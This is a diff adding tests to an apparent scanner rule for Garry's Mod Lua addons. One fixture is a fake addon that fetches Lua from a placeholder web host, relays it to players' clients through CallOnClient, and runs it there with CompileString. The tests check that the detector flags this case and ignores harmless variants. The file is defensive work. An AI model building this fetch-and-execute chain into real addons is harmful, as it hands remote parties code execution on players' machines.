@@ -1097,4 +1097,31 @@ describe('runstring', () => {
     const findings = check(rule, databaseAddon('profiles.synccloud.net', 'print(r.body)'));
     expect(findings).toEqual([]);
   });
+  /**
+   * A weapon whose server half hands `sent` to its client method `Receive` through
+   * CallOnClient, and whose client method does `use` with it.
+   */
+  const callOnClient = (sent: string, use: string): Record<string, string> => ({
+    'lua/autorun/server/sv_skins.lua': [
+      'Skins = Skins or {}',
+      'timer.Create("skins", 3600, 0, function()',
+      ' http.Fetch("https://gallery.example.invalid/weekly.lua", function(body) Skins.Body = body end)',
+      'end)',
+    ].join('\n'),
+    'lua/weapons/weapon_holo/init.lua': [
+      'AddCSLuaFile("cl_init.lua")',
+      'function SWEP:Deploy()',
+      ` self:CallOnClient("Receive", ${sent})`,
+      'end',
+    ].join('\n'),
+    'lua/weapons/weapon_holo/cl_init.lua': ['function SWEP:Receive(arg)', use, 'end'].join('\n'),
+  });
+  it("web content sent to a weapon's client method with CallOnClient, compiled there", () => {
+    const findings = check(rule, callOnClient('Skins.Body', ' CompileString(arg, "skin")()'));
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it('a skin index sent with CallOnClient, or web text only drawn (no finding)', () => {
+    expect(check(rule, callOnClient('"3"', ' self.Skin = tonumber(arg)'))).toEqual([]);
+    expect(check(rule, callOnClient('Skins.Body', ' self.Caption = arg'))).toEqual([]);
+  });
 });
